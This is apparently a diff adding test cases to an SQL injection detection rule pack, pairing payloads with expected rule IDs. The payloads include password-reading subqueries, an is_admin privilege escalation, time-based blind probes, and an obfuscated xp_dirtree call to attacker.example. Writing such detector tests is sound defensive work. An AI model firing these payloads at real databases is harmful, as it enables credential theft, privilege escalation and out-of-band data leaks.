@@ -113,8 +113,36 @@ describe('SQL injection pack', () => {
     'sleep(5) vs setTimeout javascript',
     '=IF(A1=1,1,0)',
     "CASE WHEN status='paid' THEN 1 ELSE 0 END",
+    'id,name,email',
+    'title, body from posts',
+    'name as n, age',
+    "it's a, b=c -- d",
+    'begin transaction',
   ])('leaves query-language and ordinary text alone: %j', (raw) => {
     expect(classes(raw)).toEqual([]);
+  });
+
+  it.each<[string, number]>([
+    // INSERT and UPDATE contexts: a value list holding a subquery, assignments to other columns
+    ["test@x.com', (SELECT password FROM users WHERE id=1))-- -", 100103],
+    ["1.2.3.4', (SELECT user()))#", 100103],
+    ["x', is_admin=1 WHERE username='attacker'-- -", 100103],
+    // a comparison with a nested call on its right, a procedural block, a subquery that only waits
+    ['1 AND 1=CAST(version() AS int)', 100102],
+    ["'; BEGIN DBMS_LOCK.slEeP(5); end;--", 100111],
+    ['(select 1 from pg_sleep(5))', 100115],
+    ["(SELECT 1 WHERE 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2)))))", 100115],
+    // a sort key testing the database's identity; select lists in a fields or columns parameter
+    ["(SELECT CASE WHEN (SUBSTRING(DB_NAME(),1,1)='m') THEN 1 ELSE 1/0 END)", 100116],
+    ['id,name,(select password from users limit 1)', 100119],
+    ['name,(SELECT TOP 1 password FROM users) AS x', 100119],
+    ['username,password FROM users--', 100119],
+    ['*,version()', 100119],
+    // SQL Server reads control characters as spaces (space2mssqlblank)
+    ["';\x0eEXEC\x02master..xp_dirtree\x0c'\\\\attacker.example\\share'--", 100111],
+  ])('reads %j as an injection (%i) at level 1', (raw, rule) => {
+    expect(ids(raw)).toContain(rule);
+    expect(levelOf(raw)).toBe(1);
   });
 });
 
